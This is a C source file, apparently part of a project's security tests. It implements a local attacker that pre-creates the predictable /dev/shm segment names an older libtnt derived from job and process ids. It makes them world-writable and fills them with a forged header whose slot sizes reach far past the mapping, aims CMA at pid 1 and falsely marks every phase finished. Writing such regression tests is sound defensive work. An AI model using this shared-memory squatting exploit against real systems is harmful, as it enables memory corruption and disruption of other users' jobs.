/*
 * The attacker of shm_attack.sh, run as an unprivileged user: pre-creates
 * the /dev/shm names that libtnt used to derive from the job id and the
 * node's first pid (before segment names were random), world-writable and
 * with a forged header that points the slots far outside the mapping, makes
 * the attachers' CMA target pid 1, and claims every phase finished. A
 * self-contained copy of the old layout and naming rule, on purpose: the
 * attack must keep describing what an attacker could do against the old
 * code, whatever libtnt's headers say now.
 *
 *   shm_forge LAUNCHER_PID FIRST_PID LAST_PID
 * Creates tnt-<fnv1a64("tarantella.LAUNCHER_PID")>-<pid> and
 * tnt-<hash>-doctor-<pid> for every pid in [FIRST_PID, LAST_PID]; prints how
 * many names it made and exits 0, or 1 when it could make none.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define FORGED_BYTES (1u << 20)

static uint64_t fnv1a(const char *s)
{
    uint64_t h = UINT64_C(0xcbf29ce484222325);
    for (; *s != '\0'; s++) {
        h = (h ^ (unsigned char)*s) * UINT64_C(0x100000001b3);
    }
    return h;
}

/* The old header (three cache lines) followed by local rank 0's control
 * block: every word an attacher trusted. */
static void forge(unsigned char *p)
{
    uint64_t w[8];

    memset(w, 0, sizeof w);
    w[0] = UINT64_C(0x314d48535f544e54); /* "TNT_SHM1" */
    w[1] = 2;                            /* local_size 2, reserved 0 */
    w[2] = FORGED_BYTES;                 /* segment_bytes: what the file has */
    w[3] = UINT64_C(1) << 40;            /* slot_bytes: 1 TiB past the mapping */
    w[4] = UINT64_C(1) << 40;            /* small_max */
    memcpy(p, w, sizeof w);
    uint32_t attached = 1;
    memcpy(p + 64, &attached, sizeof attached);
    /* ctl[0] and ctl[1]: seq far ahead, so nobody waits; pid 1 for CMA. */
    for (int j = 0; j < 2; j++) {
        unsigned char *ctl = p + 192 + (size_t)j * 256;
        uint64_t seq = UINT64_C(1) << 40;
        int32_t pid = 1;
        memcpy(ctl, &seq, sizeof seq);
        memcpy(ctl + 64, &pid, sizeof pid);
    }
}

static int make(const char *name)
{
    int fd = shm_open(name, O_CREAT | O_EXCL | O_RDWR, 0666);
    if (fd < 0) {
        return 0;
    }
    fchmod(fd, 0666); /* past the umask */
    if (ftruncate(fd, FORGED_BYTES) == 0) {
        void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (p != MAP_FAILED) {
            forge(p);
            munmap(p, 4096);
        }
    }
    close(fd);
    return 1;
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: shm_forge LAUNCHER_PID FIRST_PID LAST_PID\n");
        return 2;
    }
    char job[64], name[128];
    snprintf(job, sizeof job, "tarantella.%s", argv[1]);
    unsigned long long hash = (unsigned long long)fnv1a(job);
    long first = atol(argv[2]), last = atol(argv[3]);
    int made = 0;
    for (long pid = first; pid <= last; pid++) {
        snprintf(name, sizeof name, "/tnt-%016llx-%ld", hash, pid);
        made += make(name);
        snprintf(name, sizeof name, "/tnt-%016llx-doctor-%ld", hash, pid);
        made += make(name);
    }
    printf("shm_forge: made %d names\n", made);
    return made > 0 ? 0 : 1;
}
